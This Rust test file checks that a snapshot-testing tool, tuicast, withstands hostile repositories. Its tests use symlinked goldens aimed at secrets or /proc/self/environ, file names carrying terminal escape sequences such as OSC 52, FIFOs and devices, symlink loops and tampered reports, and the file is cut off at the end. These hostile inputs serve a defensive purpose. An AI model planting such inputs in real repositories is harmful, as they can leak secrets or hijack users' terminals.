//! Hostile repositories and careless users (issue 12): a cloned repository chooses the
//! folders, names and bytes tuicast sees; nothing outside the snapshots folder is deleted,
//! nothing reaches the terminal raw, no input crashes the run. One test per finding.

use std::path::Path;

use crate::util::{v3_cast, Dir};

/// A project with one cast (two checkpoints) and its goldens written.
fn project_with_goldens() -> Dir {
    let dir = Dir::new();
    dir.write(
        "casts/demo.cast",
        v3_cast(10, 2, &[r#"[0.1, "o", "hi"]"#, r#"[0.1, "m", "greeted"]"#]),
    );
    dir.tuicast(["test", "--update"]).run().success();
    dir
}

#[test]
fn remove_orphans_refuses_a_snapshots_folder_that_is_the_project() {
    // Never "/" or a real home here: were the guard ever to break, the test must not be the
    // thing that deletes them. An outside folder of our own stands in for them.
    let outside = Dir::new();
    outside.write("elsewhere/end.txt", "not the project's\n");
    let outside_path = outside.join("elsewhere").display().to_string();
    for snapshots in [".", "casts", "casts/.."] {
        let dir = project_with_goldens();
        dir.write("Cargo.toml", "[package]\n");
        dir.write("src/lib.rs", "");
        dir.write("tuicast.toml", format!("snapshots = {snapshots:?}\n"));
        let before = dir.files();
        let out = dir
            .tuicast(["test", "--remove-orphans"])
            .run()
            .fails_with(2);
        assert!(
            out.stderr()
                .contains("refusing to remove orphaned snapshots"),
            "{snapshots}: {out}"
        );
        assert_eq!(dir.files(), before, "{snapshots}: nothing may be deleted");
    }
    // A folder outside the project is refused when the configuration is read (issue 23).
    let dir = project_with_goldens();
    dir.write("tuicast.toml", format!("snapshots = {outside_path:?}\n"));
    let out = dir
        .tuicast(["test", "--remove-orphans"])
        .run()
        .fails_with(2);
    assert!(out.stderr().contains("is outside the project"), "{out}");
    assert_eq!(outside.files(), ["elsewhere/end.txt"]);
}

#[test]
fn remove_orphans_removes_only_goldens_of_a_known_cast() {
    let dir = project_with_goldens();
    dir.write("snapshots/demo/renamed.txt", "old\n");
    dir.write("snapshots/demo/notes.md", "mine\n");
    dir.write("snapshots/demo/.hidden.txt", "mine\n");
    dir.write("snapshots/gone/end.txt", "a cast that was deleted\n");
    // The goldens of a cast that is gone fail the run (`@goldens`) and are kept.
    let out = dir
        .tuicast(["test", "--remove-orphans"])
        .run()
        .fails_with(1);
    assert!(out.stdout().contains("test @goldens ... FAILED"), "{out}");
    assert!(
        out.stdout().contains("1 orphaned snapshot(s) removed"),
        "{out}"
    );
    assert!(out.stdout().contains("gone/end.txt"), "{out}");
    let files = dir.files();
    assert!(
        !files.contains(&"snapshots/demo/renamed.txt".to_string()),
        "{files:?}"
    );
    for kept in [
        "snapshots/demo/notes.md",
        "snapshots/demo/.hidden.txt",
        "snapshots/gone/end.txt",
        "snapshots/demo/greeted.txt",
        "snapshots/demo/end.txt",
    ] {
        assert!(files.contains(&kept.to_string()), "{kept} kept: {files:?}");
    }
}

#[test]
fn remove_orphans_never_follows_a_symlink_out_of_the_snapshots_folder() {
    let dir = project_with_goldens();
    let outside = Dir::new();
    outside.write("precious/end.txt", "mine\n");
    std::os::unix::fs::symlink(outside.join("precious"), dir.join("snapshots/precious")).unwrap();
    std::os::unix::fs::symlink(
        outside.join("precious/end.txt"),
        dir.join("snapshots/demo/old.txt"),
    )
    .unwrap();
    dir.tuicast(["test", "--remove-orphans"]).run().success();
    assert_eq!(outside.files(), ["precious/end.txt"]);
}

#[test]
fn the_programs_home_is_private_random_and_removed() {
    let dir = Dir::new();
    dir.write(
        "s.toml",
        "shell = 'printf \"mode=%s files=%s home=%s\\n\" \"$(stat -c %a \"$HOME\")\" \"$(ls -A \"$HOME\" | wc -l)\" \"$HOME\"'\n\
         size = \"100x3\"\nsteps = [{ wait = \"home=\" }, { exit = 0 }]\n",
    );
    let mut homes = Vec::new();
    for _ in 0..2 {
        dir.tuicast(["record", "s.toml", "-o", "s.cast"])
            .run()
            .success();
        let out = dir.tuicast(["replay", "s.cast"]).run().success();
        let line = out
            .stdout()
            .lines()
            .find(|l| l.starts_with("mode="))
            .unwrap()
            .to_string();
        assert!(line.starts_with("mode=700 files=0 home="), "{line}");
        let home = line.split("home=").nth(1).unwrap().trim().to_string();
        let name = std::path::Path::new(&home)
            .file_name()
            .unwrap()
            .to_string_lossy()
            .into_owned();
        // tuicast-home-<pid of the recorder>-<16 random hex digits>: the pid tells the next
        // recording whether the folder's recorder is gone (SIGKILL), the random part makes
        // it unguessable.
        let rest = name.strip_prefix("tuicast-home-").unwrap();
        let (pid, digits) = rest.split_once('-').unwrap();
        assert!(pid.parse::<u32>().is_ok(), "{name}");
        assert!(
            digits.len() == 16 && digits.chars().all(|c| c.is_ascii_hexdigit()),
            "{name}: a random name, not a pid and a counter"
        );
        assert!(
            !std::path::Path::new(&home).exists(),
            "{home} removed after the recording"
        );
        homes.push(home);
    }
    assert_ne!(homes[0], homes[1]);
}

#[test]
fn file_names_with_escape_sequences_never_reach_the_terminal_raw() {
    let dir = project_with_goldens();
    let evil = "\x1b]52;c;aGk=\x07\x1b[2J\u{202e}";
    // A pending golden, an orphan and a broken cast, all named by an attacker.
    dir.write(format!("snapshots/demo/x{evil}.txt.new"), "new\n");
    dir.write(format!("snapshots/demo/y{evil}.txt"), "old\n");
    dir.write(format!("casts/bad{evil}.cast"), "{not json\n");
    for args in [
        vec!["pending"],
        vec!["test"],
        vec!["replay", &format!("casts/bad{evil}.cast")],
        vec!["accept"],
    ] {
        let out = dir.tuicast(&args).run();
        for (stream, text) in [("stdout", out.stdout()), ("stderr", out.stderr())] {
            assert!(
                !text.contains('\x1b') && !text.contains('\x07') && !text.contains('\u{202e}'),
                "{args:?} {stream} has raw controls: {text:?}"
            );
        }
    }
}

#[test]
fn a_fifo_or_a_device_in_the_suite_is_an_error_not_a_hang() {
    let dir = project_with_goldens();
    assert!(std::process::Command::new("mkfifo")
        .arg(dir.join("casts/fifo.cast"))
        .status()
        .unwrap()
        .success());
    std::os::unix::fs::symlink("/dev/zero", dir.join("casts/zero.cast")).unwrap();
    std::fs::remove_file(dir.join("snapshots/demo/end.txt")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", dir.join("snapshots/demo/end.txt")).unwrap();
    // Bad input, so exit status 2; every other cast is still checked.
    let out = dir.tuicast(["test"]).run().fails_with(2);
    let text = out.stdout();
    assert!(text.contains("test demo::greeted ... ok"), "{out}");
    assert!(
        text.contains("fifo.cast: is a FIFO, not a regular file"),
        "{out}"
    );
    assert!(
        text.contains("zero.cast: is a device, not a regular file"),
        "{out}"
    );
    assert!(
        text.contains("end.txt: cannot read the golden: is a symbolic link (to /dev/zero)"),
        "{out}"
    );
    assert_eq!(
        text.matches("snapshots/demo/end.txt").count(),
        1,
        "the path once: {out}"
    );
}

#[test]
fn one_column_screens_replay_without_a_panic() {
    let dir = Dir::new();
    // avt 0.17 panics reflowing a wide character into 1 column, and printing one there with
    // auto-wrap off: casts ask for 1 column, engines take 2.
    dir.write(
        "casts/header.cast",
        v3_cast(1, 3, &["[0.1, \"o\", \"漢x\"]"]),
    );
    dir.write(
        "casts/resize.cast",
        v3_cast(
            4,
            3,
            &[
                "[0.1, \"o\", \"漢x\"]",
                "[0.1, \"r\", \"1x3\"]",
                "[0.1, \"o\", \"漢\"]",
            ],
        ),
    );
    dir.write(
        "casts/nowrap.cast",
        v3_cast(1, 3, &["[0.1, \"o\", \"\\u001b[?7l漢漢\"]"]),
    );
    dir.tuicast(["test", "--update"]).run().success();
    let out = dir.tuicast(["test"]).run().success();
    assert!(out.stdout().contains("3 passed, 0 failed"), "{out}");
    for cast in ["header", "resize", "nowrap"] {
        // (avt as the crate is too: only its narrowest width is the adapter's.)
        for engine in ["native", "avt"] {
            let out = dir.tuicast([
                "replay",
                &format!("casts/{cast}.cast"),
                "--format",
                "json",
                "--engine",
                engine,
            ]);
            let json = out.run().success().json();
            assert_eq!(json["size"]["cols"], 2, "{cast} ({engine}): {json}");
        }
    }
    // A person asking for 1 column is told why not.
    dir.write(
        "casts/narrow.toml",
        "shell = \"true\"\nsteps = [{ resize = \"1x5\" }]\n",
    );
    let out = dir
        .tuicast(["record", "casts/narrow.toml"])
        .run()
        .fails_with(2);
    assert!(
        out.stderr().contains(
            "narrow.toml:2:10: resize: size 1x5 is too narrow: a terminal has at least 2 columns"
        ),
        "{out}"
    );
}

#[test]
fn labels_that_look_like_made_up_names_get_goldens_of_their_own() {
    let dir = Dir::new();
    let cast = |third: &str| {
        v3_cast(
            10,
            2,
            &[
                "[0.1, \"o\", \"one\"]",
                "[0.1, \"m\", \"x\"]",
                "[0.1, \"o\", \" two\"]",
                "[0.1, \"m\", \"x\"]",
                &format!("[0.1, \"o\", \"\\r\\n{third}\"]"),
                "[0.1, \"m\", \"x-2\"]",
            ],
        )
    };
    dir.write("casts/c.cast", cast("three"));
    dir.tuicast(["test", "--update"]).run().success();
    // Only the third screen changes: its own golden must notice.
    dir.write("casts/c.cast", cast("THREE"));
    let out = dir.tuicast(["test"]).run().fails_with(1);
    assert!(out.stdout().contains("test c::x-2-2 ... FAILED"), "{out}");
    assert!(out.stdout().contains("test c::x-2 ... ok"), "{out}");
}

#[test]
fn no_command_writes_over_its_own_input() {
    let dir = project_with_goldens();
    let before = std::fs::read(dir.join("casts/demo.cast")).unwrap();
    let out = dir
        .tuicast([
            "replay",
            "casts/demo.cast",
            "-o",
            "./casts/../casts/demo.cast",
        ])
        .run()
        .fails_with(2);
    assert!(
        out.stderr()
            .contains("refusing to write the output over the input"),
        "{out}"
    );
    assert_eq!(std::fs::read(dir.join("casts/demo.cast")).unwrap(), before);

    dir.write("s.toml", "shell = \"echo hi\"\nsteps = [{ exit = 0 }]\n");
    let out = dir
        .tuicast(["record", "s.toml", "-o", "s.toml"])
        .run()
        .fails_with(2);
    assert!(
        out.stderr()
            .contains("refusing to write the cast over its scenario"),
        "{out}"
    );
    let out = dir
        .tuicast(["record", "s.toml", "./s.toml"])
        .run()
        .fails_with(2);
    assert!(out.stderr().contains("would both write"), "{out}");
    assert!(!dir.join("s.cast").exists());
    assert_eq!(
        std::fs::read_to_string(dir.join("s.toml")).unwrap(),
        "shell = \"echo hi\"\nsteps = [{ exit = 0 }]\n"
    );
}

#[test]
fn names_that_sanitize_alike_never_share_a_golden_and_stems_hold_no_machine_paths() {
    let dir = Dir::new();
    // "a b" sanitizes to "a_b-<hash of "a b">"; a label spelled as that result collides.
    let hashed = {
        dir.write(
            "casts/probe.cast",
            v3_cast(10, 2, &[r#"[0.1, "m", "a b"]"#]),
        );
        dir.tuicast(["test", "--update"]).run().success();
        let files = dir.files();
        let golden = files
            .iter()
            .find(|f| f.starts_with("snapshots/probe/a_b-"))
            .unwrap()
            .clone();
        std::fs::remove_dir_all(dir.join("snapshots")).unwrap();
        std::fs::remove_file(dir.join("casts/probe.cast")).unwrap();
        golden
            .trim_start_matches("snapshots/probe/")
            .trim_end_matches(".txt")
            .to_string()
    };
    dir.write(
        "casts/c.cast",
        v3_cast(
            10,
            2,
            &[
                r#"[0.1, "m", "a b"]"#,
                &format!(r#"[0.1, "m", "{hashed}"]"#),
            ],
        ),
    );
    let out = dir.tuicast(["test", "--update"]).run().fails_with(2);
    assert!(out.stdout().contains("would share the golden"), "{out}");
    assert!(
        !dir.files().iter().any(|f| f.starts_with("snapshots/")),
        "nothing written"
    );

    // A cast given from outside the project is named by its file name, not its path.
    let outside = Dir::new();
    outside.write("y.cast", v3_cast(10, 2, &[r#"[0.1, "o", "y"]"#]));
    let path = outside.join("y.cast").display().to_string();
    let out = dir.tuicast(["test", "--update", &path]).run().success();
    assert!(out.stdout().contains("test y::end ... updated"), "{out}");
    assert!(
        dir.files().contains(&"snapshots/y/end.txt".to_string()),
        "{:?}",
        dir.files()
    );
}

#[test]
fn temporary_files_of_an_interrupted_write_are_listed_and_removable() {
    let dir = project_with_goldens();
    // What a tuicast killed during --update leaves: a hidden temporary of a dead process.
    let dead = {
        let mut child = std::process::Command::new("true").spawn().unwrap();
        let pid = child.id();
        child.wait().unwrap();
        pid
    };
    dir.write(
        format!("snapshots/demo/.end.txt.tmp{dead}"),
        "half a golden",
    );
    let out = dir.tuicast(["test"]).run().success();
    assert!(
        out.stdout()
            .contains("1 temporary file(s) of an interrupted write found"),
        "{out}"
    );
    let out = dir.tuicast(["test", "--remove-orphans"]).run().success();
    assert!(out.stdout().contains("removed"), "{out}");
    assert!(
        !dir.files().iter().any(|f| f.contains(".tmp")),
        "{:?}",
        dir.files()
    );
}

#[test]
fn goldens_are_never_written_through_a_symlink_out_of_the_snapshots_folder() {
    let dir = Dir::new();
    dir.write("casts/demo.cast", v3_cast(10, 2, &[r#"[0.1, "o", "hi"]"#]));
    let outside = Dir::new();
    std::fs::create_dir_all(dir.join("snapshots")).unwrap();
    std::os::unix::fs::symlink(outside.path(), dir.join("snapshots/demo")).unwrap();
    let out = dir.tuicast(["test", "--update"]).run().fails_with(2);
    assert!(
        out.stdout()
            .contains("is a symlink out of the snapshots folder"),
        "{out}"
    );
    assert!(
        outside.files().is_empty(),
        "nothing written outside: {:?}",
        outside.files()
    );
}

/// Issue 23: a golden committed as a symbolic link (`snapshots/c/end.txt ->
/// /proc/self/environ`, `-> ../../.git/config`) was read through: `tuicast test` printed its
/// target in the diff, `--report` embedded it in the artifact, `review` showed it. Every
/// golden read (text, styled, PNG, region goldens, `.new` files) refuses a link and names it.
#[test]
fn a_golden_that_is_a_symlink_is_an_error_never_a_diff_of_its_target() {
    let secret = "SECRET-TOKEN-8c1f";
    let outside = Dir::new();
    let target = outside.write("secret.txt", format!("{secret}\n"));
    let dir = project_with_goldens();
    dir.write("casts/text.cast", v3_cast(10, 2, &[r#"[0.1, "o", "hi"]"#]));
    dir.write(
        "casts/demo.toml",
        "[regions]\ntop = { rows = 1 }\n[check]\nformats = [\"txt\", \"png\"]\nregions = [\"top\"]\n",
    );
    dir.tuicast(["test", "--update"]).run().success();
    // Each the first golden its checkpoint reads that is a link: a text golden, a picture and
    // a region golden.
    let links = [
        "snapshots/text/end.txt",
        "snapshots/demo/end.png",
        "snapshots/demo/greeted.top.txt",
    ];
    for golden in links {
        std::fs::remove_file(dir.join(golden)).unwrap();
        std::os::unix::fs::symlink(&target, dir.join(golden)).unwrap();
    }
    // A picture that differs, with a committed `.new` and changes picture that are links:
    // the report copies pictures beside a failing PNG golden.
    dir.write("snapshots/demo/greeted.png", "not a picture");
    for beside in ["greeted.png.new", "greeted.png.diff.png"] {
        std::os::unix::fs::symlink(&target, dir.join("snapshots/demo").join(beside)).unwrap();
    }
    // Bad input, not a failed check: exit status 2 (it was 1).
    let out = dir
        .tuicast(["test", "--report", "rep"])
        .env("TUICAST_UPDATE", "no")
        .run()
        .fails_with(2);
    assert!(
        !out.stdout().contains(secret) && !out.stderr().contains(secret),
        "{out}"
    );
    for golden in links {
        assert!(
            out.stdout().contains(&format!(
                "{golden}: cannot read the golden: is a symbolic link (to {}), which tuicast does \
                 not read through",
                target.display()
            )),
            "{golden}: {out}"
        );
    }
    let report: Vec<String> = dir
        .files()
        .into_iter()
        .filter(|f| f.starts_with("rep/"))
        .collect();
    assert!(report.contains(&"rep/index.html".to_string()), "{report:?}");
    for f in report {
        let bytes = std::fs::read(dir.join(&f)).unwrap();
        assert!(
            !String::from_utf8_lossy(&bytes).contains(secret),
            "{f} holds the link's target"
        );
    }

    // Review: a symlinked golden beside a real `.new` is named, not diffed; a symlinked `.new`
    // is never accepted into a golden.
    dir.write("snapshots/text/end.txt.new", "hi\n");
    let out = dir.tuicast(["review"]).stdin("s\n").run().fails_with(2);
    assert!(
        out.stderr()
            .contains("snapshots/text/end.txt: cannot read the golden: is a symbolic link"),
        "{out}"
    );
    assert!(!out.stdout().contains(secret), "{out}");
    std::fs::remove_file(dir.join("snapshots/text/end.txt.new")).unwrap();
    std::fs::remove_file(dir.join("snapshots/text/end.txt")).unwrap();
    std::os::unix::fs::symlink(&target, dir.join("snapshots/text/end.txt.new")).unwrap();
    dir.tuicast(["accept"]).run().success();
    assert!(
        !dir.join("snapshots/text/end.txt").exists(),
        "a link is no pending snapshot"
    );
}

/// Issue 23: `tuicast test --report .` (or `docs`, `~`) removed `DIR/data/` and `DIR/files/`
/// and replaced `DIR/index.html`. A report is written only into a new or empty folder, or one
/// a report made (its `tuicast-report.txt`); any other folder is refused, exit status 2.
#[test]
fn a_report_never_writes_into_a_folder_it_did_not_make() {
    let dir = project_with_goldens();
    dir.write("docs/index.html", "<p>the project's page</p>\n");
    dir.write("docs/data/keep.json", "{}\n");
    dir.write("docs/files/logo.png", "picture\n");
    let before = dir.files();
    for folder in ["docs", "."] {
        let out = dir
            .tuicast(["test", "--report", folder])
            .run()
            .fails_with(2);
        assert!(
            out.stderr().contains(
                "not a report folder tuicast made (it holds files and no tuicast-report.txt)"
            ),
            "{folder}: {out}"
        );
        let out = dir
            .tuicast(["test"])
            .env("TUICAST_REPORT", folder)
            .run()
            .fails_with(2);
        assert!(
            out.stderr().contains("not a report folder"),
            "{folder}: {out}"
        );
        assert_eq!(dir.files(), before, "{folder}: nothing written or removed");
    }
    // A new folder, an empty one, and a folder a report made (again) are fine.
    std::fs::create_dir(dir.join("empty")).unwrap();
    for folder in ["rep", "empty", "rep"] {
        dir.tuicast(["test", "--report", folder]).run().success();
        assert!(dir.join(folder).join("tuicast-report.txt").is_file());
        assert!(dir.join(folder).join("index.html").is_file());
    }
    // A marker that is a link makes no folder a report.
    std::os::unix::fs::symlink(
        dir.join("rep/tuicast-report.txt"),
        dir.join("docs/tuicast-report.txt"),
    )
    .unwrap();
    let out = dir
        .tuicast(["test", "--report", "docs"])
        .run()
        .fails_with(2);
    assert!(out.stderr().contains("is not a regular file"), "{out}");
    let docs = |files: Vec<String>| -> Vec<String> {
        files
            .into_iter()
            .filter(|f| f.starts_with("docs/"))
            .collect()
    };
    let mut expected = docs(before);
    expected.push("docs/tuicast-report.txt".to_string());
    expected.sort();
    assert_eq!(docs(dir.files()), expected, "the project's docs untouched");
}

/// Issue 23: `casts/a -> .` plus `casts/b -> .` (two one-byte symlinks) made discovery walk
/// 2^40 paths, and `casts/root -> /` the file system. Symlinked folders are not followed, and
/// discovery has a depth and a count limit, each a clear error (exit status 2).
#[test]
fn discovery_follows_no_symlinked_folder_and_stops_at_its_limits() {
    let dir = project_with_goldens();
    for (link, to) in [("a", "."), ("b", "."), ("root", "/")] {
        std::os::unix::fs::symlink(to, dir.join("casts").join(link)).unwrap();
    }
    let started = std::time::Instant::now();
    let out = dir.tuicast(["test"]).run().success();
    assert!(out.stdout().contains("2 passed"), "{out}");
    assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());

    // 33 folders deep: refused, naming the folder and the limit.
    let deep = Dir::new();
    let nested: String = (0..33).map(|i| format!("d{i}/")).collect();
    deep.write(format!("casts/{nested}x.cast"), "");
    let out = deep.tuicast(["test"]).run().fails_with(2);
    assert!(
        out.stdout()
            .contains("folders nested more than 32 deep under casts"),
        "{out}"
    );
    assert!(out.stdout().contains("casts/d0/d1/"), "{out}");

    // More casts than one run checks.
    let many = Dir::new();
    std::fs::create_dir(many.join("casts")).unwrap();
    for i in 0..10_001 {
        std::fs::write(many.join(format!("casts/c{i}.cast")), "").unwrap();
    }
    let out = many.tuicast(["test"]).run().fails_with(2);
    assert!(
        out.stdout()
            .contains("casts: more than 10000 casts, the most one run checks"),
        "{out}"
    );
}

/// Every `rep/data/r-*.json` of a report, parsed, changed by `f` and written back.
fn tamper(dir: &Dir, f: impl Fn(&mut serde_json::Value)) {
    for entry in std::fs::read_dir(dir.join("rep/data")).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if name.starts_with("r-") && name.ends_with(".json") {
            let mut v: serde_json::Value =
                serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
            f(&mut v);
            std::fs::write(&path, serde_json::to_vec(&v).unwrap()).unwrap();
        }
    }
}

/// Each snapshot entry of a report's data file.
fn each_snapshot(v: &mut serde_json::Value, f: &dyn Fn(&mut serde_json::Value)) {
    for r in v["results"].as_array_mut().unwrap() {
        for s in r["snapshots"].as_array_mut().unwrap() {
            f(s);
        }
    }
}

/// Issue 23: `accept --from` trusted the report: it wrote any name under `snapshots/`
/// (`evil.sh`, `.gitattributes`), wrote through a symlinked folder out of the project, copied
/// any local file into `end.png` through a `files/` link, read `/dev/zero` and hung on a
/// FIFO. Every entry is checked against the checkout; one that fails refuses the whole report
/// (exit status 2), naming it, and nothing is written.
#[test]
fn accept_from_refuses_a_report_that_does_not_hold_up_against_the_checkout() {
    let dir = project_with_goldens();
    dir.write("casts/pic.cast", v3_cast(6, 1, &[r#"[0.1, "o", "hi"]"#]));
    dir.write("casts/pic.toml", "[check]\nformats = [\"png\"]\n");
    dir.tuicast(["test", "--update"]).run().success();
    // Both casts change; CI (mode `no`) leaves a report of the changes.
    dir.write(
        "casts/demo.cast",
        v3_cast(10, 2, &[r#"[0.1, "o", "ho"]"#, r#"[0.1, "m", "greeted"]"#]),
    );
    dir.write("casts/pic.cast", v3_cast(6, 1, &[r#"[0.1, "o", "ho"]"#]));
    dir.tuicast(["test", "--report", "rep"])
        .env("TUICAST_UPDATE", "no")
        .run()
        .fails_with(1);
    let pristine = Dir::new();
    let copy = |from: &Path, to: &Path| {
        assert!(std::process::Command::new("cp")
            .args(["-a"])
            .arg(from)
            .arg(to)
            .status()
            .unwrap()
            .success());
    };
    copy(&dir.join("rep"), &pristine.join("rep"));
    let restore = || {
        std::fs::remove_dir_all(dir.join("rep")).unwrap();
        copy(&pristine.join("rep"), &dir.join("rep"));
    };
    let refused = |what: &str, expected: &str| {
        let before = dir.files();
        let out = dir.tuicast(["accept", "--from", "rep"]).run().fails_with(2);
        assert!(
            out.stderr()
                .contains("refused the whole report, nothing was written"),
            "{what}: {out}"
        );
        assert!(out.stderr().contains(expected), "{what}: {out}");
        assert_eq!(dir.files(), before, "{what}: nothing written");
        restore();
    };

    // Names no cast and checkpoint of the checkout has: refused, escaped.
    for name in [
        "evil.sh",
        ".gitattributes",
        "demo/new/end.txt",
        "demo/end.txt\u{1b}]0;x\u{7}",
    ] {
        tamper(&dir, |v| {
            each_snapshot(v, &|s| {
                if s["name"] == "demo/end.txt" {
                    s["name"] = name.into();
                }
            })
        });
        let shown = name.replace('\u{1b}', "\\e").replace('\u{7}', "\\x07");
        refused(
            name,
            &format!("{shown}: no cast and checkpoint of this checkout"),
        );
    }
    // A text golden claimed to be a picture.
    tamper(&dir, |v| {
        each_snapshot(v, &|s| {
            if s["name"] == "demo/end.txt" {
                s["format"] = "png".into();
            }
        })
    });
    refused(
        "format",
        "demo/end.txt: its format is not the one its name says",
    );

    // The picture: a link to any file, /dev/zero, a FIFO, no PNG, a `files` folder link.
    let picture = std::fs::read_dir(dir.join("rep/files"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.to_string_lossy().ends_with("-actual.png"))
        .expect("the actual picture");
    let secret = dir.write("secret.txt", "SECRET\n");
    for (what, make) in [
        ("a link", "link"),
        ("/dev/zero", "zero"),
        ("a FIFO", "fifo"),
        ("no PNG", "text"),
    ] {
        std::fs::remove_file(&picture).unwrap();
        match make {
            "link" => std::os::unix::fs::symlink(&secret, &picture).unwrap(),
            "zero" => std::os::unix::fs::symlink("/dev/zero", &picture).unwrap(),
            "fifo" => assert!(std::process::Command::new("mkfifo")
                .arg(&picture)
                .status()
                .unwrap()
                .success()),
            _ => std::fs::write(&picture, "SECRET\n").unwrap(),
        }
        let expected = match make {
            "text" => "is not a PNG",
            "fifo" => "is a FIFO, not a regular file",
            _ => "is a symbolic link",
        };
        refused(what, expected);
    }
    let outside = Dir::new();
    copy(&dir.join("rep/files"), &outside.join("files"));
    std::fs::remove_dir_all(dir.join("rep/files")).unwrap();
    std::os::unix::fs::symlink(outside.join("files"), dir.join("rep/files")).unwrap();
    refused(
        "files link",
        "rep/files: is not a folder (a symbolic link or a file)",
    );

    // A data file that is a link, or a FIFO.
    let data = std::fs::read_dir(dir.join("rep/data"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.file_name().unwrap().to_string_lossy().starts_with("r-"))
        .unwrap();
    std::fs::rename(&data, outside.join("r.json")).unwrap();
    std::os::unix::fs::symlink(outside.join("r.json"), &data).unwrap();
    refused("data link", "is a symbolic link");
    std::fs::remove_file(&data).unwrap();
    assert!(std::process::Command::new("mkfifo")
        .arg(&data)
        .status()
        .unwrap()
        .success());
    refused("data FIFO", "is a FIFO, not a regular file");

    // A snapshots folder that is a link out of the project: nothing written through it.
    let away = Dir::new();
    copy(&dir.join("snapshots/demo"), &away.join("demo"));
    std::fs::remove_dir_all(dir.join("snapshots/demo")).unwrap();
    std::os::unix::fs::symlink(away.join("demo"), dir.join("snapshots/demo")).unwrap();
    let before = away.files();
    // Discovery already refuses such a cast, so its goldens are no known ones.
    refused("folder link out", "no cast and checkpoint of this checkout");
    assert_eq!(away.files(), before);
    // A link inside the snapshots folder is refused too: accept writes through none.
    std::fs::remove_file(dir.join("snapshots/demo")).unwrap();
    copy(&away.join("demo"), &dir.join("snapshots/real-demo"));
    std::os::unix::fs::symlink("real-demo", dir.join("snapshots/demo")).unwrap();
    refused("folder link", "snapshots/demo is a symbolic link");
    std::fs::remove_file(dir.join("snapshots/demo")).unwrap();
    std::fs::rename(dir.join("snapshots/real-demo"), dir.join("snapshots/demo")).unwrap();

    // A snapshots folder outside the project takes nothing.
    dir.write("tuicast.toml", format!("snapshots = {:?}\n", away.path()));
    let out = dir.tuicast(["accept", "--from", "rep"]).run().fails_with(2);
    assert!(out.stderr().contains("is outside the project"), "{out}");
    std::fs::remove_file(dir.join("tuicast.toml")).unwrap();

    // The untouched report is accepted.
    let out = dir.tuicast(["accept", "--from", "rep"]).run().success();
    assert!(
        out.stdout().contains("accepted pic/end.png (changed)"),
        "{out}"
    );
    assert!(
        out.stdout().contains("accepted demo/end.txt (changed)"),
        "{out}"
    );
}

/// A cast of `markers` labelled markers `m0`, `m1`, … on a 10x2 screen.
fn cast_with_markers(markers: usize) -> String {
    let events: Vec<String> = (0..markers)
        .map(|i| format!(r#"[0.001, "m", "m{i}"]"#))
        .collect();
    let refs: Vec<&str> = events.iter().map(String::as_str).collect();
    v3_cast(10, 2, &refs)
}

/// Issue 23: 10,000 markers and 1,000 `[[check.expect]] at = "*"` (240 KB) made 10 M trials
/// and aborted on memory; `[check] regions` at every checkpoint wrote 100,100 `.new` files
/// from 22 KB. A run makes at most 100,000 tests and 10,000 region goldens: past that the
/// case is one failing test naming the expectation (or the TOML), exit status 2.
#[test]
fn expectations_and_region_goldens_fan_out_to_a_limit() {
    let dir = project_with_goldens();
    dir.write("casts/wide.cast", cast_with_markers(10_000));
    let expects: String = (0..10)
        .map(|_| "[[check.expect]]\nat = \"*\"\ncontains = \"m\"\n".to_string())
        .collect();
    dir.write(
        "casts/wide.toml",
        format!("[check]\nformats = []\n{expects}"),
    );
    let started = std::time::Instant::now();
    let out = dir.tuicast(["test"]).run().fails_with(2);
    assert!(
        out.stdout().contains(
            "casts/wide.toml:3: 10001 checkpoints and 10 expectations make 110011 tests, \
             which takes the run past 100000, the most one run makes"
        ),
        "{out}"
    );
    assert!(out.stdout().contains("test demo::end ... ok"), "{out}");
    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());

    dir.write(
        "casts/wide.toml",
        "[regions]\na = { rows = 1 }\nb = { rows = 2 }\n[check]\nformats = []\nregions = [\"a\", \"b\"]\n",
    );
    let out = dir
        .tuicast(["test"])
        .env("TUICAST_UPDATE", "new")
        .run()
        .fails_with(2);
    assert!(
        out.stdout().contains(
            "casts/wide.toml: [check] regions asks for 2 regions at 10001 checkpoints, 20002 \
             region goldens, which takes the run past 10000"
        ),
        "{out}"
    );
    assert!(!dir.join("snapshots/wide").exists(), "nothing written");
}

/// Issue 23: `tuicast session … | head` panicked ("failed printing to stdout: Broken pipe",
/// exit 101) when the reader went away. The rest of the reply is dropped instead, and the exit
/// status is the reply's.
#[test]
fn a_session_reply_to_a_reader_that_went_away_is_no_panic() {
    let runtime = Dir::new();
    let work = Dir::new();
    for human in [false, true] {
        let mut cmd = std::process::Command::new(crate::util::BIN);
        cmd.args(["session", "list"])
            .args(human.then_some("--human"))
            .current_dir(work.path())
            .env("XDG_RUNTIME_DIR", runtime.path())
            .env("TUICAST_SESSION_IDLE", "5s")
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        let mut child = cmd.spawn().unwrap();
        // The only reader closes its end before anything is written.
        drop(child.stdout.take());
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!stderr.contains("panicked"), "human {human}: {stderr}");
        assert_eq!(out.status.code(), Some(0), "human {human}: {stderr}");
    }
}

/// Issue 23 (open from before): a font folder holding `x.ttf -> /dev/zero` took 4.2 GB, and
/// a FIFO named `y.otf` would block. Only regular font files within the size limit are read.
#[test]
fn a_font_folder_with_a_device_or_a_fifo_is_read_safely() {
    let dir = Dir::new();
    dir.write("x.cast", v3_cast(10, 2, &[r#"[0.1, "o", "hi"]"#]));
    std::fs::create_dir(dir.join("fonts")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", dir.join("fonts/x.ttf")).unwrap();
    assert!(std::process::Command::new("mkfifo")
        .arg(dir.join("fonts/y.otf"))
        .status()
        .unwrap()
        .success());
    let started = std::time::Instant::now();
    dir.tuicast([
        "replay",
        "x.cast",
        "--format",
        "png",
        "--font-dir",
        "fonts",
        "-o",
        "x.png",
    ])
    .run()
    .success();
    assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
    assert!(dir.join("x.png").is_file());
}

/// Issue 23: the changes picture a PNG mismatch writes (`end.png.diff.png`) was listed as an
/// orphan and deleted by `--remove-orphans` while the failure message pointed at it.
#[test]
